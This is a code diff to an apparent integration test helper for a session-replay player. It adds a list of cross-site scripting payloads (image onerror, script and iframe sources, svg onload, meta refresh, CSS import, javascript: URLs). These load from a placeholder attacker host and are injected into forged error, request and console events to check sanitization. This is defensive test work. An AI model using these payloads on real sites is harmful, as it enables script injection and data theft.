@@ -15,6 +15,20 @@ from tests.integration.player.tree import Node, Tree, added
 
 RUN = "top.ran = parent.ran = window.ran = 1; alert(1)"
 TARGET = "a target"
+# Told as the text of an error, a line or a request. `WORD` is seen in the panel, whatever the gates take out.
+WORD = "beside"
+BESIDE = (
+    ("t-image", f"{WORD} <img src={{evil}} onerror={{run}}>"),
+    ("t-script", f"{WORD} <script src={{evil}}></script><script>{{run}}</script>"),
+    ("t-frame", f"{WORD} <iframe src={{evil}}></iframe><svg onload={{run}}>"),
+    (
+        "t-link",
+        f"{WORD} <a href={{evil}} ping={{evil}}>x</a><meta http-equiv=refresh content=0;url={{evil}}>",
+    ),
+    ("t-style", f"{WORD} <style>@import url({{evil}})</style><link rel=stylesheet href={{evil}}>"),
+    ("t-address", "javascript:{run}"),
+    ("t-format", f"{WORD} %c%s background:url({{evil}})"),
+)
 Event = dict[str, Any]
 Attack = dict[str, Any]
 
@@ -66,8 +80,41 @@ class Forger:
         later = [
             self._mutation(500, adds=adds),
             self._mutation(700, attributes=[_clear(one) for one in changes]),
+            *self._beside(),
         ]
         return self._page(root, later)
+
+    def _beside(self) -> list[Event]:
+        """What is listed beside the page: errors, lines of the console, requests, in every text of theirs."""
+        return [event for name, text in BESIDE for event in self._told(armed(text, name, self._host))]
+
+    def _told(self, text: str) -> list[Event]:
+        place = {"function": text, "url": text, "line": 1, "column": 1}
+        error = {"kind": "error", "type": text, "message": text, "stack": [place], "times": 1}
+        request = {
+            "api": "fetch",
+            "method": "GET",
+            "url": text,
+            "how": "failed",
+            "status": 0,
+            "at_ms": self._at_ms + 800,
+            "duration_ms": 20,
+            "sent_form": "text",
+            "sent_size": "1kb",
+            "sent_text": text,
+            "got_form": "text",
+            "got_size": "1kb",
+            "got_text": text,
+        }
+        line = {"level": "error", "trace": [], "payload": [json.dumps(text)]}
+        return [
+            self._event(810, 5, {"tag": "voile.error", "payload": error}),
+            self._event(820, 5, {"tag": "voile.request", "payload": request}),
+            self._event(830, 6, {"plugin": "rrweb/console@1", "payload": line}),
+        ]
+
+    def _event(self, after_ms: int, kind: int, data: Node) -> Event:
+        return {"type": kind, "timestamp": self._at_ms + after_ms, "data": data}
 
     def by_styles(self) -> list[Event]:
         """Styles by every way that changes them: texts, attributes, rules, declarations, adopted sheets."""
